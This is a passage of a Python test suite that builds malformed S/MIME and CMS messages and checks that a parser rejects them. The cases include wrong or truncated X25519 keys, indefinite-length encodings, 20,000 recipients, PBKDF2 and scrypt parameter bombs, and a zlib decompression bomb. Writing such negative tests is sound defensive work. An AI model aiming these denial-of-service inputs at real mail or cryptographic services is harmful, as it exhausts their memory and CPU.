    """X25519 with the public key of somebody else."""
    other = X25519PrivateKey.generate().public_key().public_bytes_raw()
    return Envelope(infos=_agreement("x25519", lambda octets: other)).der()


@case("18.11", SMIMEError, "x25519")
def x25519_short_key() -> bytes:
    """X25519 with 31 octets."""
    return Envelope(infos=_agreement("x25519", lambda octets: octets[:-1])).der()


# -- 12 and 13: encoding and work --


@case("18.12", None)
def indefinite_lengths() -> bytes:
    """AuthEnvelopedData with indefinite lengths and the ciphertext in segments (BER)."""
    key = content_encryption.new_key("aes-256-gcm")
    stated, encrypted, tag = content_encryption.encrypt("aes-256-gcm", key, ENTITY)
    segments = _indefinite(0xA0, *(writer.octet_string(encrypted[at : at + 5]) for at in range(0, len(encrypted), 5)))
    info = _indefinite(0x30, writer.oid(DATA), stated.raw, segments)
    return _indefinite(
        0x30,
        writer.oid("1.2.840.113549.1.9.16.1.23"),
        _indefinite(0xA0, _indefinite(0x30, writer.integer(0), _indefinite(0x31, *_oaep(key)), info, writer.octet_string(tag or b""))),
    )


@case("18.12", None)
def empty_content() -> bytes:
    """AES-GCM over no octets."""
    return Envelope(content=b"").der()


@case("18.12", UnsupportedError)
def content_elsewhere() -> bytes:
    """encryptedContent is absent (RFC 5652 section 6.1: external content)."""
    key = content_encryption.new_key("aes-256-cbc")
    stated = content_encryption.algorithm_identifier("aes-256-cbc", bytes(16))
    return build_enveloped_data(recipient_infos=_oaep(key), content_encryption_algorithm=stated, encrypted_content=None)


@case("FL", LimitExceeded)
def twenty_thousand_recipients() -> bytes:
    """20 000 RecipientInfos."""
    stated = key_wrap.algorithm_identifier(key_wrap.wrap_for(32))
    infos = [KEKRecipientInfo.build(KEKIdentifier(number.to_bytes(4, "big")), stated, bytes(40)) for number in range(20_000)]
    return Envelope(infos=lambda key: infos).der()


def _password_with(parameters: bytes, kdf: str = "1.2.840.113549.1.5.12") -> bytes:
    def infos(key: bytes) -> list[bytes]:
        _, stated, wrapped = pwri.wrap(PASSWORD.secret, key, iterations=1000)
        return [PasswordRecipientInfo.build(algorithm(kdf, parameters), stated, wrapped)]

    return Envelope(infos=infos).der()


@case("PB", LimitExceeded, PASSWORD)
def pbkdf2_bomb() -> bytes:
    """PBKDF2 with 2^31 rounds."""
    return _password_with(writer.sequence(writer.octet_string(bytes(16)), writer.integer(1 << 31)))


@case("PB", SMIMEError, PASSWORD)
def pbkdf2_no_rounds() -> bytes:
    """PBKDF2 with 0 rounds."""
    return _password_with(writer.sequence(writer.octet_string(bytes(16)), writer.integer(0)))


@case("PB", SMIMEError, PASSWORD)
def pbkdf2_huge_key() -> bytes:
    """PBKDF2 with a keyLength of 2^31."""
    return _password_with(writer.sequence(writer.octet_string(bytes(16)), writer.integer(1000), writer.integer(1 << 31)))


@case("PB", LimitExceeded, PASSWORD)
def scrypt_bomb() -> bytes:
    """scrypt with N = 2^30 and r = 8: a terabyte."""
    cost = (writer.integer(1 << 30), writer.integer(8), writer.integer(1))
    return _password_with(writer.sequence(writer.octet_string(bytes(16)), *cost), "1.3.6.1.4.1.11591.4.11")


@case("PB", SMIMEError, PASSWORD)
def scrypt_parallel_bomb() -> bytes:
    """scrypt with p = 2^30."""
    cost = (writer.integer(1 << 14), writer.integer(8), writer.integer(1 << 30))
    return _password_with(writer.sequence(writer.octet_string(bytes(16)), *cost), "1.3.6.1.4.1.11591.4.11")


# -- compression, through unwrap --


def compressed(content: bytes) -> bytes:
    """Return a CompressedData around a zlib stream."""
    return opaque(build_compressed_data(content=content), smime_type="compressed-data", name="smime.p7z")


def bomb(size: int) -> bytes:
    """Return a zlib stream of many zeros."""
    stream = zlib.compressobj(9)
    return b"".join(stream.compress(bytes(1 << 20)) for _ in range(size >> 20)) + stream.flush()
